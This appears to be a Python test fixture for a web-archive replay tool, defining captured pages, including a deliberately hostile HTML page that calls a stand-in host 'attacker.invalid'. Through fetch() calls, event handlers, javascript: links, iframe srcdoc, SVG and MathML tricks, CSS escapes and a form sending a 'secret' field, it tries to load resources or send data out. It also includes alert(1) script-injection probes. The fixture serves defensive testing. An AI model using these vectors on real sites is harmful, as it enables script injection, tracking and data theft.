"""Captured pages that mean harm, and pages in odd dress: what a replay must show, and must not do."""

from __future__ import annotations

import datetime as dt

from archive.captures import Exchange

__all__ = ["AT", "ATTACKER", "CAPTURES", "HOSTILE_PAGE", "exchange"]

ATTACKER = "http://attacker.invalid"
AT = dt.datetime(2025, 3, 4, 5, 6, 7, tzinfo=dt.UTC)

HOSTILE_PAGE = f"""<!DOCTYPE html>
<html lang="en" manifest="{ATTACKER}/manifest"><head>
<meta charset="utf-8">
<base href="{ATTACKER}/base/">
<meta http-equiv="refresh" content="0; url={ATTACKER}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<title>Harmless & "quoted" </title>
<link rel="stylesheet" href="{ATTACKER}/style.css">
<link rel="preload" as="script" href="{ATTACKER}/preload.js">
<link rel="prefetch" href="{ATTACKER}/prefetch">
<link rel="dns-prefetch" href="//dns.attacker.invalid">
<link rel="preconnect" href="{ATTACKER}">
<link rel="icon" href="{ATTACKER}/icon.png">
<link rel="modulepreload" href="{ATTACKER}/module.js">
<style>
@import url("{ATTACKER}/import.css");
@font-face {{ font-family: stolen; src: url("{ATTACKER}/font.woff2"); }}
body {{ background: url({ATTACKER}/background.png); font-family: stolen; }}
h2 {{ background: image-set("{ATTACKER}/set.png" 1x); cursor: -webkit-image-set(url({ATTACKER}/webkit.png) 1x); }}
h3 {{ background: u\\72l({ATTACKER}/escaped.png); content: src("{ATTACKER}/src.png"); }}
h1 {{ color: rgb(1, 2, 3); }}
</style>
<script>fetch("{ATTACKER}/script"); document.title = "pwned";</script>
<script type="module" src="{ATTACKER}/module.js"></script>
</head>
<body onload="fetch('{ATTACKER}/onload')" background="{ATTACKER}/bg.png">
<h1 onclick="alert(1)" style="background-image: url({ATTACKER}/inline.png)">The words stay</h1>
<noscript><p>Without scripts<img src="{ATTACKER}/noscript.png"></p></noscript>
<img src="{ATTACKER}/picture.png" srcset="{ATTACKER}/2x.png 2x" onerror="fetch('{ATTACKER}/onerror')" alt="A picture">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" alt="A picture in the page">
<picture><source srcset="{ATTACKER}/source.png"><img src="x" alt=""></picture>
<video src="{ATTACKER}/video.mp4" poster="{ATTACKER}/poster.png" autoplay></video><audio src="{ATTACKER}/a.mp3"></audio>
<iframe src="{ATTACKER}/frame" srcdoc="<script>parent.fetch('{ATTACKER}/srcdoc')</script>"></iframe>
<object data="{ATTACKER}/object"></object><embed src="{ATTACKER}/embed">
<svg onload="fetch('{ATTACKER}/svg')"><script>fetch("{ATTACKER}/svgscript")</script>
<image href="{ATTACKER}/svg.png"/><use href="{ATTACKER}/use.svg#a"/><style>@import "{ATTACKER}/svg.css";</style></svg>
<math><mtext><style><img src=x onerror="fetch('{ATTACKER}/math')"></style></mtext></math>
<form action="{ATTACKER}/form" id="f"><input name="secret" autofocus onfocus="fetch('{ATTACKER}/focus')">
<button>Send</button></form>
<button form="f" formaction="{ATTACKER}/formaction">Send elsewhere</button>
<a href="javascript:fetch('{ATTACKER}/javascript')">A script for a link</a>
<a href="/news/1" ping="{ATTACKER}/ping" target="_top">A link within</a>
<a href="#part">A link to a part</a>
<p id="part">The end</p>
<table background="{ATTACKER}/table.png"><tr><td background="{ATTACKER}/cell.png">A cell</td></tr></table>
<template><img src="{ATTACKER}/template.png"></template>
<frameset><frame src="{ATTACKER}/frameset"></frameset>
<plaintext><img src="{ATTACKER}/plaintext.png">
"""

_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)


def exchange(path: str, body: bytes, type_: str = "text/html", *, at: dt.datetime = AT, status: int = 200) -> Exchange:
    """What a site answered to a request."""
    return Exchange(
        url=f"http://site.invalid{path}",
        request_headers=[(b"Host", b"site.invalid")],
        status=status,
        response_headers=[(b"Content-Type", type_.encode())] if type_ else [],
        body=body,
        captured_at=at,
    )


CAPTURES = {
    "hostile": exchange("/hostile", HOSTILE_PAGE.encode()),
    "windows": exchange("/windows", "<h1>Caf\xe9 \x93quoted\x94</h1>".encode("latin-1")),
    "cyrillic": exchange("/cyrillic", "<p>Новости</p>".encode("koi8-r"), "text/html; charset=koi8-r"),
    "script": exchange("/script.js", b"alert(1)", "text/javascript"),
    "svg": exchange(
        "/picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "image/svg+xml"
    ),
    "png": exchange("/picture.png", _PNG, "image/png"),
    "pdf": exchange("/report.pdf", b"%PDF-1.4 \x00\x01", "application/pdf"),
    "untyped": exchange("/untyped", b"<p>No type", ""),
    "early": exchange("/twice?page=1&q=a%20b", b"<p>Early", at=AT),
    "late": exchange("/twice?page=1&q=a%20b", b"<p>Late", at=AT + dt.timedelta(days=10)),
    "odd": exchange('/odd/"><script>alert(1)</script>', b'<a href="http://[bad">bad</a><a href="?x=1">query</a>'),
}
"""By name: what a page answered, captured outside of any crawl."""
